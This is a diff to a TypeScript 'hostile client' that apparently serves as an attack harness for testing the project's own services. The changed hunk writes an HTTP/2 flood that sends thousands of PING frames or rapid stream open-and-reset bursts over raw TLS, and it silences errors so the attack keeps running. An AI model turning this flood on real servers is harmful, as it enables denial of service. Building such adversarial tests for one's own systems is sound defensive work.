@@ -1,8 +1,9 @@
 /** An agency that attacks until it is stopped.  node hostile-client.ts PROFILE-FOLDER ATTACK */
 import { randomBytes } from 'node:crypto';
+import { once } from 'node:events';
 import type { ClientHttp2Session } from 'node:http2';
 import { setPriority } from 'node:os';
-import { setTimeout as sleep } from 'node:timers/promises';
+import { setImmediate as nextTurn, setTimeout as sleep } from 'node:timers/promises';
 import { connect as connectTls } from 'node:tls';
 import { gzipSync } from 'node:zlib';
 import { createSignedClient, pathOf } from '../../connectors/kit/client.ts';
@@ -35,8 +36,6 @@ const STREAMS = 64;
 const PERSON = { idNumber: '901085000017', fullName: 'Nguyễn Văn An', dateOfBirth: '1985-03-27' };
 
 setPriority(LOWEST);
-process.on('uncaughtException', () => undefined);
-process.on('unhandledRejection', () => undefined);
 process.once('SIGTERM', () => process.exit(0));
 
 const profile = await loadProfile(process.argv[2] ?? '');
@@ -142,14 +141,12 @@ const ATTACKS: Readonly<Record<Attack, () => Promise<void> | void>> = {
     const pings = Buffer.concat(Array.from({ length: 2000 }, () => http2Frame(PING, 0, 0, Buffer.alloc(8))));
     keep(8, async (n) => {
       const socket = await rawTls(port, raw);
-      let open = true;
-      socket.once('close', () => {
-        open = false;
-      });
       socket.write(Buffer.concat([PREFACE, http2Frame(SETTINGS, 0, 0)]));
-      for (let stream = 1; open; stream += 2) {
-        const frames = n % 2 === 0 ? pings : openAndReset(stream, pathOf(verifyPerson));
-        await new Promise((resolve) => socket.write(frames, resolve));
+      for (let stream = 1; !socket.destroyed; stream += 200) {
+        const calls = Array.from({ length: 100 }, (_, i) => openAndReset(stream + 2 * i, pathOf(verifyPerson)));
+        const written = socket.write(n % 2 === 0 ? pings : Buffer.concat(calls));
+        // A turn of the loop at the least, so that the end of the connection is seen.
+        await (written ? nextTurn() : Promise.race([once(socket, 'drain'), once(socket, 'close')]));
       }
     });
   },
@@ -170,5 +167,8 @@ const ATTACKS: Readonly<Record<Attack, () => Promise<void> | void>> = {
 };
 
 await ATTACKS[(process.argv[3] ?? '') as Attack]();
+// Whatever a broken connection throws from now on, the attack goes on.
+process.on('uncaughtException', () => undefined);
+process.on('unhandledRejection', () => undefined);
 await sleep(500);
 process.stdout.write(`${JSON.stringify({ event: 'attacking' })}\n`);
